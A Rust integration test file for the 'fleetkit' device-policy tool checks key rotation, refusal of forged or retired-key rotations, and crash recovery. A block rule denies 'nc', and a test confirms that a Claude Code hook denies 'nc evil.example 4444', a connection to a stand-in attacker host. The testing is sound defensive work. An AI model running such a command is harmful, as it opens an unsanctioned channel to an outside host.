//! Issue 11 item 2, "key rotation reaches the devices" (DESIGN.md rules 1, 3, 10),
//! end to end with the real binaries, on SQLite and PostgreSQL: `keys rotate`, then
//! `policy publish` sends the rotation to the running server (no restart), which
//! then accepts bundles signed by the new key and serves the chain; `agent sync`
//! follows it before verifying the bundle — also when the device did not sync
//! between the rotation and the old key's retirement. A forged step is refused by
//! the server's admin API and, written straight into its database, by the device,
//! whose anchors and policy stay byte for byte.

mod support;

use fleetkit::anchors::{ANCHORS_PAYLOAD_TYPE, AnchorKey, TrustAnchors};
use fleetkit::bundle::dsse::Envelope;
use fleetkit::pki::PolicyKey;
use fleetkit::server::admin_client::ClientError;
use fleetkit::server::store::Store;
use std::time::Duration;
use support::agent::DeviceRoot;
use support::*;
use time::OffsetDateTime;

fn each_db(test: impl Fn(Db)) {
    for db in databases() {
        eprintln!("--- {db:?}");
        test(db);
    }
}

fn anchors_of(path: &std::path::Path) -> TrustAnchors {
    TrustAnchors::from_json(&std::fs::read(path).unwrap()).unwrap()
}

/// A registered device that synced bundle v1.
fn registered_device(org: &Org, server: &Server, dir: &std::path::Path) -> DeviceRoot {
    let token = create_token(server, org, "platform", 1, 3600).token;
    let d = DeviceRoot::install(org, dir, "device", &server.url(), "");
    let run = d.register(&token);
    assert_eq!(run.code, 0, "{run:?}");
    let run = d.agent(&["sync"], &[]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(d.status()["anchors_version"], 1);
    d
}

/// The key ids that signed a DSSE envelope.
fn signers(envelope: &[u8]) -> Vec<String> {
    Envelope::from_json(envelope)
        .unwrap()
        .signatures
        .into_iter()
        .map(|s| s.keyid)
        .collect()
}

fn refusal(e: ClientError) -> (u16, String) {
    match e {
        ClientError::Refused { status, code, .. } => (status, code.to_string()),
        other => panic!("not a refusal: {other}"),
    }
}

/// Issue 11: nothing delivered `rotations/anchors-vN.json`; the running server
/// refused bundles by the new key until restarted, and once the old key retired
/// every device refused every new bundle.
#[test]
fn rotation_reaches_devices_after_the_old_key_retired() {
    each_db(|db| {
        let org = Org::new();
        let server = Server::start(&org, db);
        let dir = tempfile::tempdir().unwrap();
        let d = registered_device(&org, &server, dir.path());
        let installed = d.path("etc/fleetkit/anchors.json");
        let installed_v1 = std::fs::read(&installed).unwrap();
        let old_key = anchors_of(&installed).keys[0].keyid.clone();

        fleetkit(&[
            "--workspace",
            &org.ws(),
            "keys",
            "rotate",
            "--retire-after",
            "3s",
        ]);
        let rotated = anchors_of(&org.path().join("anchors.json"));
        assert_eq!(rotated.version, 2);
        let retired_at = rotated.key(&old_key).unwrap().valid_until.unwrap();
        // The device does not sync until the old key has retired.
        while OffsetDateTime::now_utc() <= retired_at {
            std::thread::sleep(Duration::from_millis(200));
        }
        // v2 blocks nc, which v1 (the shipped bundle) does not.
        org.block_tool("nc", "raw sockets");
        let v2_path = org.sign_next();
        let v2 = std::fs::read(&v2_path).unwrap();
        let new_key = rotated.keys.last().unwrap().keyid.clone();
        assert_eq!(signers(&v2), vec![new_key], "only the new key signs now");

        // running_server_picks_up_a_rotation_without_a_restart: before the rotation
        // reaches it, the server does not know the new key...
        let (status, code) = refusal(server.admin(&org).publish_bundle(&v2).unwrap_err());
        assert_eq!((status, code.as_str()), (422, "bundle_refused"));
        // ...then `policy publish` sends the rotation, then the bundle, to the same
        // process.
        let out = publish_ok(&org, &server);
        assert!(out.contains("key rotation: anchors v2"), "{out}");
        assert!(out.contains("published policy bundle v2"), "{out}");
        // Publishing again: the rotation is skipped as already there, and the bundle
        // is refused as already published, as before.
        let again = std::process::Command::new(BIN)
            .args(["--workspace", &org.ws(), "policy", "publish"])
            .args(["--server", &server.url()])
            .output()
            .unwrap();
        assert!(!again.status.success(), "the bundle is already published");

        let run = d.agent(&["sync"], &[]);
        assert_eq!(run.code, 0, "{run:?}");
        assert!(run.stdout.contains("trust anchors v1 → v2"), "{run:?}");
        assert!(run.stdout.contains("v1 → v2"), "{run:?}");
        assert_eq!(d.policy_bytes(), v2);
        let status = d.status();
        assert_eq!(status["anchors_version"], 2, "{status}");
        assert_eq!(status["policy_version"], 2, "{status}");
        assert_eq!(status["in_force_version"], 2, "{status}");
        // The device's anchors in force are the new ones; the installed file is
        // the installer's (or configuration management's) and stays as it was.
        assert_eq!(anchors_of(&d.data("anchors.json")), rotated);
        assert_eq!(anchors_of(&installed).version, 1);
        assert!(d.data("rotations/anchors-v2.json").exists());
        // Claude Code's hook, run as an ordinary user who cannot write the agent's
        // folder, follows the rotation too: it judges by v2 (signed by the new key
        // only), not by the shipped v1 its installed anchors still verify.
        if let Some((code, stdout, stderr)) = d.hook_as_nobody("nc evil.example 4444") {
            assert_eq!(code, 0, "{stderr}");
            assert!(
                stdout.contains("\"deny\"") && stdout.contains("raw sockets"),
                "{stdout}{stderr}"
            );
        }

        // The next sync has nothing to follow.
        let run = d.agent(&["sync"], &[]);
        assert_eq!(run.code, 0, "{run:?}");
        assert!(!run.stdout.contains("trust anchors"), "{run:?}");

        // configuration_management_cannot_undo_a_followed_rotation: Ansible,
        // Puppet or Chef put the installed anchors.json back at their next run (it
        // is theirs); the rotation stays followed and a bundle by the new key only
        // is still taken.
        std::fs::write(&installed, &installed_v1).unwrap();
        let v3 = std::fs::read(org.sign_next()).unwrap();
        assert_eq!(
            signers(&v3),
            vec![rotated.keys.last().unwrap().keyid.clone()]
        );
        server.admin(&org).publish_bundle(&v3).unwrap();
        let run = d.agent(&["sync"], &[]);
        assert_eq!(run.code, 0, "{run:?}");
        assert_eq!(d.policy_bytes(), v3);
        assert_eq!(d.status()["anchors_version"], 2);
        assert_eq!(d.manifest()["provisioned"], true);
    });
}

/// Rotation envelope of `doc` signed by `keys`.
fn sign_anchors(doc: &TrustAnchors, keys: &[&PolicyKey]) -> Vec<u8> {
    Envelope::sign(ANCHORS_PAYLOAD_TYPE, &doc.to_json().unwrap(), keys)
        .to_json()
        .unwrap()
}

/// The org's only policy key (before any rotation).
fn org_key(org: &Org) -> PolicyKey {
    let a = anchors_of(&org.path().join("anchors.json"));
    PolicyKey::load(&fleetkit::workspace::paths::policy_key(
        &org.path(),
        &a.keys[0].keyid,
    ))
    .unwrap()
}

#[test]
fn rotation_signed_by_a_stranger_is_refused_and_the_old_anchors_kept() {
    each_db(|db| {
        let org = Org::new();
        let server = Server::start(&org, db);
        let dir = tempfile::tempdir().unwrap();
        let d = registered_device(&org, &server, dir.path());
        let installed = d.path("etc/fleetkit/anchors.json");
        let anchors_before = std::fs::read(&installed).unwrap();
        let policy_before = d.policy_bytes();

        let v1 = anchors_of(&org.path().join("anchors.json"));
        let now = OffsetDateTime::now_utc().replace_nanosecond(0).unwrap();
        let stranger = PolicyKey::generate().unwrap();
        let mut takeover = v1.clone();
        takeover.version = 2;
        takeover.keys = vec![AnchorKey::new(&stranger, now, None)];
        let forged = sign_anchors(&takeover, &[&stranger]);

        // The admin API refuses it, and a rotation to another org signed by the
        // org's own key.
        let admin = server.admin(&org);
        let (status, code) = refusal(admin.publish_rotation(&forged).unwrap_err());
        assert_eq!((status, code.as_str()), (422, "rotation_refused"));
        let key = org_key(&org);
        let mut globex = v1.clone();
        globex.version = 2;
        globex.org = "globex".into();
        globex.keys.push(AnchorKey::new(&stranger, now, None));
        let (status, code) = refusal(
            admin
                .publish_rotation(&sign_anchors(&globex, &[&key, &stranger]))
                .unwrap_err(),
        );
        assert_eq!((status, code.as_str()), (422, "rotation_refused"));

        // The attacker controls the server's database: the step is served and
        // announced at check-in, and the device refuses it.
        let rt = tokio::runtime::Runtime::new().unwrap();
        rt.block_on(async {
            let store = Store::open(&server.db_url, "acme-corp", 1).await.unwrap();
            assert!(
                store
                    .insert_rotation(2, &forged, now.unix_timestamp())
                    .await
                    .unwrap()
            );
        });
        // The server caches its anchors for a second.
        std::thread::sleep(Duration::from_millis(1_200));
        let run = d.agent(&["sync"], &[]);
        assert_ne!(run.code, 0, "{run:?}");
        assert!(
            run.stderr
                .contains("the server's key rotation to anchors v2 was refused"),
            "{run:?}"
        );
        assert!(run.stderr.contains("not in the trusted anchors"), "{run:?}");
        assert_eq!(std::fs::read(&installed).unwrap(), anchors_before);
        assert!(!d.data("rotations").exists(), "no refused step is kept");
        assert_eq!(d.policy_bytes(), policy_before);
        let status = d.status();
        assert_eq!(status["anchors_version"], 1, "{status}");
        assert_eq!(status["last_sync_ok"], false, "{status}");
        let result = status["last_sync_result"].as_str().unwrap();
        assert!(result.contains("key rotation to anchors v2"), "{result}");
        let manifest = d.manifest();
        assert!(
            manifest["last_sync_result"]
                .as_str()
                .is_some_and(|r| r.contains("rotation")),
            "{manifest:?}"
        );
        // A repeat of the forged step is still refused, not "already published".
        let (status, code) = refusal(admin.publish_rotation(&forged).unwrap_err());
        assert_eq!((status, code.as_str()), (422, "rotation_refused"));
    });
}

/// Several instances on one database: a rotation published through one is in
/// force on the other at once (no restart, no stale cache), and devices of either
/// get the exact stored chain after the version they hold.
#[test]
fn rotation_published_on_one_instance_counts_on_every_instance() {
    each_db(|db| {
        let org = Org::new();
        let a = Server::start(&org, db);
        let b = Server::start_with(&org, &a.db_url);
        fleetkit(&[
            "--workspace",
            &org.ws(),
            "keys",
            "rotate",
            "--retire-after",
            "1s",
        ]);
        let rotated = anchors_of(&org.path().join("anchors.json"));
        let retired_at = rotated.keys[0].valid_until.unwrap();
        while OffsetDateTime::now_utc() <= retired_at {
            std::thread::sleep(Duration::from_millis(200));
        }
        let v2 = std::fs::read(org.sign_next()).unwrap();
        let step = std::fs::read(org.path().join("rotations/anchors-v2.json")).unwrap();

        let (status, code) = refusal(b.admin(&org).publish_bundle(&v2).unwrap_err());
        assert_eq!((status, code.as_str()), (422, "bundle_refused"));
        assert_eq!(
            a.admin(&org)
                .publish_rotation(&step)
                .unwrap()
                .anchors_version,
            2
        );
        let (status, code) = refusal(b.admin(&org).publish_rotation(&step).unwrap_err());
        assert_eq!((status, code.as_str()), (409, "already_published"));
        assert_eq!(b.admin(&org).publish_bundle(&v2).unwrap().version, 2);

        // The device side of the chain: certificate required, exact documents.
        let token = create_token(&b, &org, "platform", 1, 3600);
        let mut device = Device::new("m-rotation", None);
        assert_eq!(enroll(&b, &org, &mut device, &token.token).status, 200);
        let url = |after: u64| format!("{}/v1/rotations?after={after}", a.url());
        let anonymous = answer(client(&org, None).get(url(1)).call());
        assert_eq!(anonymous.status, 401, "{anonymous:?}");
        let agent = client(&org, Some(&device));
        let chain = answer(agent.get(url(1)).call());
        assert_eq!(chain.status, 200);
        let chain: Vec<serde_json::Value> = chain.json();
        assert_eq!(
            chain,
            vec![serde_json::from_slice::<serde_json::Value>(&step).unwrap()]
        );
        let none: Vec<serde_json::Value> = answer(agent.get(url(2)).call()).json();
        assert!(none.is_empty());
    });
}

/// Issue 12 (high), the server side: after `K1` retired, `K1` + an attacker's key
/// signed a v3 backdated into K1's window (dropping the legitimate key) and
/// `PUT /v1/admin/rotations` stored it (201).
#[test]
fn server_refuses_a_rotation_signed_by_a_retired_key() {
    let org = Org::new();
    let server = Server::start(&org, Db::Sqlite);
    let v1 = anchors_of(&org.path().join("anchors.json"));
    let k1 = org_key(&org);
    let k2 = PolicyKey::generate().unwrap();
    let rotated_at = fleetkit::clock::now();
    let (v2, env2) =
        fleetkit::anchors::rotate(&v1, &[&k1], &[&k2], time::Duration::seconds(2), rotated_at)
            .unwrap();
    let admin = server.admin(&org);
    assert_eq!(admin.publish_rotation(&env2).unwrap().anchors_version, 2);
    std::thread::sleep(Duration::from_secs(3));
    assert!(
        !v2.key(&k1.keyid())
            .unwrap()
            .is_valid_at(fleetkit::clock::now())
    );

    let evil = PolicyKey::generate().unwrap();
    let mut v3 = v2.clone();
    v3.version = 3;
    v3.keys = vec![AnchorKey::new(
        &evil,
        rotated_at + time::Duration::seconds(1),
        None,
    )];
    let forged = sign_anchors(&v3, &[&k1, &evil]);
    let (status, code) = refusal(admin.publish_rotation(&forged).unwrap_err());
    assert_eq!((status, code.as_str()), (422, "rotation_refused"));
    // The legitimate key still rotates.
    let k3 = PolicyKey::generate().unwrap();
    let (_, env3) = fleetkit::anchors::rotate(
        &v2,
        &[&k2],
        &[&k3],
        time::Duration::days(30),
        fleetkit::clock::now(),
    )
    .unwrap();
    assert_eq!(admin.publish_rotation(&env3).unwrap().anchors_version, 3);
}

/// Issue 12: `policy publish` after `keys rotate` without `policy sign` said "bundle
/// v1 is already the published one; nothing else to publish" and exited 0, while
/// every device installed after the old key retired refused that bundle.
#[test]
fn publish_after_rotate_without_resign_fails_and_says_to_sign() {
    let org = Org::new();
    let server = Server::start(&org, Db::Sqlite);
    let old_key = anchors_of(&org.path().join("anchors.json")).keys[0]
        .keyid
        .clone();
    let rotate = fleetkit(&[
        "--workspace",
        &org.ws(),
        "keys",
        "rotate",
        "--retire-after",
        "3s",
    ]);
    assert!(rotate.contains("`fleetkit policy sign`"), "{rotate}");
    let publish = || {
        std::process::Command::new(BIN)
            .args(["--workspace", &org.ws(), "policy", "publish"])
            .args(["--server", &server.url()])
            .output()
            .unwrap()
    };
    let out = publish();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(!out.status.success(), "{stdout}{stderr}");
    assert!(stdout.contains("key rotation: anchors v2"), "{stdout}");
    assert!(
        stderr.contains("bundle v1 is signed only by retiring keys"),
        "{stderr}"
    );
    assert!(stderr.contains("will refuse it"), "{stderr}");
    assert!(stderr.contains("stay so"), "{stderr}");
    assert!(stderr.contains("fleetkit policy sign"), "{stderr}");
    // The rotation itself stays published.
    let step = std::fs::read(org.path().join("rotations/anchors-v2.json")).unwrap();
    let (status, _) = refusal(server.admin(&org).publish_rotation(&step).unwrap_err());
    assert_eq!(status, 409);

    // Doing what it says: a device installed after the old key retired syncs.
    org.sign_next();
    let out = publish_ok(&org, &server);
    assert!(out.contains("published policy bundle v2"), "{out}");
    let retired_at = anchors_of(&org.path().join("anchors.json"))
        .key(&old_key)
        .unwrap()
        .valid_until
        .unwrap();
    while OffsetDateTime::now_utc() <= retired_at {
        std::thread::sleep(Duration::from_millis(200));
    }
    let dir = tempfile::tempdir().unwrap();
    let token = create_token(&server, &org, "platform", 1, 3600).token;
    let d = DeviceRoot::install(&org, dir.path(), "fresh", &server.url(), "");
    let run = d.register(&token);
    assert_eq!(run.code, 0, "{run:?}");
    let run = d.agent(&["sync"], &[]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(d.status()["in_force_version"], 2);
}

/// Runs `fleetkit serve` expecting it to refuse to start; its stderr.
fn serve_refused(org: &Org, db_url: &str) -> String {
    let mut child = std::process::Command::new(BIN)
        .args(["--workspace", &org.ws(), "serve", "--listen", "127.0.0.1:0"])
        .args(["--db", db_url])
        .env_remove("FLEETKIT_DB")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            let mut stderr = String::new();
            std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut stderr).unwrap();
            assert!(!status.success(), "{stderr}");
            return stderr;
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("fleetkit serve started although the rotation history has a gap");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn stored_rotations(db_url: &str) -> Vec<i64> {
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let store = Store::open(db_url, "acme-corp", 1).await.unwrap();
        store
            .rotations_after(0)
            .await
            .unwrap()
            .into_iter()
            .map(|(v, _)| v)
            .collect()
    })
}

/// Issue 12 (low): at start, a history step below the start anchors was checked
/// only when its predecessor was in rotations/; the first file, and anything after
/// a gap, was stored unchecked, for good.
#[test]
fn serve_refuses_a_rotation_history_with_a_gap() {
    let org = Org::new();
    for _ in 0..3 {
        fleetkit(&["--workspace", &org.ws(), "keys", "rotate"]);
    }
    assert_eq!(anchors_of(&org.path().join("anchors.json")).version, 4);
    let rotations = org.path().join("rotations");
    let hidden = org.path().join("hidden.json");

    // A gap in the middle: v3 missing.
    std::fs::rename(rotations.join("anchors-v3.json"), &hidden).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let url = database_url(Db::Sqlite, dir.path());
    let stderr = serve_refused(&org, &url);
    assert!(stderr.contains("anchors-v3.json is missing"), "{stderr}");
    assert!(
        stderr.contains("anchors-v2.json to anchors-v4.json"),
        "{stderr}"
    );
    assert_eq!(stored_rotations(&url), Vec::<i64>::new(), "nothing stored");

    // The last one missing: v4, the one equal to anchors.json.
    std::fs::rename(&hidden, rotations.join("anchors-v3.json")).unwrap();
    std::fs::rename(rotations.join("anchors-v4.json"), &hidden).unwrap();
    let stderr = serve_refused(&org, &url);
    assert!(stderr.contains("anchors-v4.json is missing"), "{stderr}");
    assert_eq!(stored_rotations(&url), Vec::<i64>::new(), "nothing stored");

    // The first one missing.
    std::fs::rename(&hidden, rotations.join("anchors-v4.json")).unwrap();
    std::fs::rename(rotations.join("anchors-v2.json"), &hidden).unwrap();
    let stderr = serve_refused(&org, &url);
    assert!(stderr.contains("anchors-v2.json is missing"), "{stderr}");
    assert_eq!(stored_rotations(&url), Vec::<i64>::new(), "nothing stored");

    // Whole again: the server starts and stores the chain.
    std::fs::rename(&hidden, rotations.join("anchors-v2.json")).unwrap();
    let _server = Server::start_with(&org, &url);
    assert_eq!(stored_rotations(&url), vec![2, 3, 4]);
}

/// Runs the fleetkit binary, success or not: (exit status, stdout, stderr).
/// `fleetkit policy publish` of the workspace to `server`: success, stdout, stderr.
fn publish(org: &Org, server: &Server) -> (bool, String, String) {
    run(&[
        "--workspace",
        &org.ws(),
        "policy",
        "publish",
        "--server",
        &server.url(),
    ])
}

/// [`publish`], which must succeed; its stdout.
fn publish_ok(org: &Org, server: &Server) -> String {
    let (ok, stdout, stderr) = publish(org, server);
    assert!(ok, "policy publish: {stdout}{stderr}");
    stdout
}

fn run(args: &[&str]) -> (bool, String, String) {
    let out = std::process::Command::new(BIN).args(args).output().unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The files in the workspace's keys/ directory, with their bytes.
fn key_files(org: &Org) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut files: Vec<_> = std::fs::read_dir(org.path().join("keys"))
        .unwrap()
        .map(|e| {
            let path = e.unwrap().path();
            let bytes = std::fs::read(&path).unwrap();
            (path, bytes)
        })
        .collect();
    files.sort();
    files
}

/// Second red-team review, item 1: a crash inside `keys rotate`, after it wrote
/// rotations/anchors-v2.json but before anchors.json, left a step above anchors.json.
/// `policy publish` sent it and `fleetkit serve` stored it (for good), and the next
/// `keys rotate` silently overwrote the file with a different v2, so every publish
/// then failed with "holds another rotation". Now neither sends nor stores it, the
/// next `keys rotate` finishes that rotation, and a file it cannot finish makes it
/// refuse, writing nothing.
#[test]
fn crash_inside_keys_rotate_strands_the_workspace() {
    let org = Org::new();
    let ws = org.ws();
    let dir = tempfile::tempdir().unwrap();
    let url = database_url(Db::Sqlite, dir.path());
    let server = Server::start_with(&org, &url);
    let anchors_path = org.path().join("anchors.json");
    let v1 = std::fs::read(&anchors_path).unwrap();
    let step_path = org.path().join("rotations/anchors-v2.json");
    fleetkit(&["--workspace", &ws, "keys", "rotate"]);
    let step = std::fs::read(&step_path).unwrap();
    // The crash: anchors.json was never replaced.
    std::fs::write(&anchors_path, &v1).unwrap();
    let keys_before = key_files(&org);

    // `policy publish` sends a new bundle (the v1 key is still current), not the step.
    org.sign_next();
    let (ok, stdout, stderr) = publish(&org, &server);
    assert!(ok, "{stdout}{stderr}");
    assert!(stdout.contains("published policy bundle v2"), "{stdout}");
    assert!(!stdout.contains("key rotation"), "{stdout}");
    assert!(stderr.contains("not sending"), "{stderr}");
    assert!(
        stderr.contains(&step_path.display().to_string()),
        "{stderr}"
    );
    assert!(stderr.contains("fleetkit keys rotate"), "{stderr}");
    assert_eq!(stored_rotations(&url), Vec::<i64>::new(), "nothing sent");

    // `fleetkit serve` on a fresh database starts, says so, and stores nothing.
    let fresh = tempfile::tempdir().unwrap();
    let fresh_url = database_url(Db::Sqlite, fresh.path());
    let (second, stderr) = Server::start_logged(&org, &[], &fresh_url, &[]);
    assert!(stderr.contains("not storing"), "{stderr}");
    assert!(
        stderr.contains(&step_path.display().to_string()),
        "{stderr}"
    );
    drop(second);
    assert_eq!(
        stored_rotations(&fresh_url),
        Vec::<i64>::new(),
        "nothing stored"
    );

    // A step whose new private key is gone cannot be finished: refused, nothing written.
    let v2: TrustAnchors = serde_json::from_slice(
        &Envelope::from_json(&step)
            .unwrap()
            .decode()
            .unwrap()
            .payload,
    )
    .unwrap();
    let old = TrustAnchors::from_json(&v1).unwrap();
    let added: Vec<&AnchorKey> = v2
        .keys
        .iter()
        .filter(|k| old.key(&k.keyid).is_none())
        .collect();
    assert_eq!(added.len(), 1);
    let new_key = fleetkit::workspace::paths::policy_key(&org.path(), &added[0].keyid);
    let aside = org.path().join("new-key-aside");
    std::fs::rename(&new_key, &aside).unwrap();
    let (ok, _, stderr) = run(&["--workspace", &ws, "keys", "rotate"]);
    assert!(!ok, "{stderr}");
    assert!(
        stderr.contains(&step_path.display().to_string()),
        "{stderr}"
    );
    assert!(stderr.contains("private key"), "{stderr}");
    assert!(stderr.contains("move"), "{stderr}");
    std::fs::rename(&aside, &new_key).unwrap();
    assert_eq!(std::fs::read(&anchors_path).unwrap(), v1);
    assert_eq!(key_files(&org), keys_before, "no key made");

    // `keys rotate` again finishes the first rotation: no new key, the same step.
    let (ok, stdout, stderr) = run(&["--workspace", &ws, "keys", "rotate"]);
    assert!(ok, "{stdout}{stderr}");
    assert!(stderr.contains("did not finish"), "{stderr}");
    assert!(stdout.contains("anchors v2 written"), "{stdout}");
    assert_eq!(key_files(&org), keys_before, "no key made");
    assert_eq!(std::fs::read(&step_path).unwrap(), step, "the step is kept");
    assert_eq!(anchors_of(&anchors_path), v2);
    assert_eq!(
        std::fs::read(&anchors_path).unwrap(),
        Envelope::from_json(&step)
            .unwrap()
            .decode()
            .unwrap()
            .payload
    );

    // And it reaches the server as the one v2.
    org.sign_next();
    let (ok, stdout, stderr) = publish(&org, &server);
    assert!(ok, "{stdout}{stderr}");
    assert!(
        stdout.contains("published key rotation: anchors v2"),
        "{stdout}"
    );
    assert_eq!(stored_rotations(&url), vec![2]);

    // A foreign file above anchors.json (here a copy of v2 named v3) is refused,
    // named, and nothing is written.
    let foreign = org.path().join("rotations/anchors-v3.json");
    std::fs::write(&foreign, &step).unwrap();
    let anchors_now = std::fs::read(&anchors_path).unwrap();
    let keys_now = key_files(&org);
    let (ok, _, stderr) = run(&["--workspace", &ws, "keys", "rotate"]);
    assert!(!ok, "{stderr}");
    assert!(stderr.contains(&foreign.display().to_string()), "{stderr}");
    assert!(stderr.contains("move"), "{stderr}");
    assert_eq!(std::fs::read(&anchors_path).unwrap(), anchors_now);
    assert_eq!(key_files(&org), keys_now);
    assert_eq!(std::fs::read(&foreign).unwrap(), step);
}
